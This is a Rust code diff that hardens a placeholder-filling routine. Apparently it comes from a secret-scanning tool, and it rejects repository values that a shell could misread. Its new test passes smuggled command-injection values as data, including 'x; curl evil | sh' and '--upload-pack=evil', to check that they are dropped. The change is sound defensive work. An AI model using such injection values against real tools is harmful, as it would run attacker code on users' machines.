@@ -91,11 +91,15 @@ const NAMES: [&str; 6] = ["key_id", "account", "path", "env_var", "user", "host"
 pub struct Placeholders(Vec<(&'static str, String)>);
 
 impl Placeholders {
-    /// Sets a placeholder; names that no step may use are passed over.
-    pub fn set(&mut self, name: &str, value: impl Into<String>) {
-        if let Some(known) = NAMES.iter().find(|known| **known == name) {
+    /// Sets a placeholder. Names that no step may use are passed over, and so are values that a
+    /// shell could take for more than a word: they come from the scanned repository and end in
+    /// commands that people copy.
+    pub fn set(&mut self, name: &str, value: &str) {
+        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._@:/+=,-".contains(&byte);
+        let harmless = (1..=200).contains(&value.len()) && value.bytes().all(plain) && !value.starts_with('-');
+        if let Some(known) = NAMES.iter().find(|known| **known == name && harmless) {
             self.0.retain(|(name, _)| name != known);
-            self.0.push((known, value.into()));
+            self.0.push((known, value.to_owned()));
         }
     }
 
@@ -133,4 +137,18 @@ pub(super) fn unknown_placeholder(text: &str) -> Option<&str> {
         let is_word = !name.is_empty() && name.bytes().all(|b| b.is_ascii_lowercase() || b == b'_');
         (is_word && !NAMES.contains(&name)).then_some(name)
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_value_from_the_repository_never_becomes_a_command() {
+        let mut known = Placeholders::default();
+        known.set("key_id", "AKIA1234");
+        known.set("user", "x; curl evil | sh");
+        known.set("host", "--upload-pack=evil");
+        assert_eq!(known.fill("aws {key_id} {user} {host}"), "aws AKIA1234 USER HOST");
+    }
 }
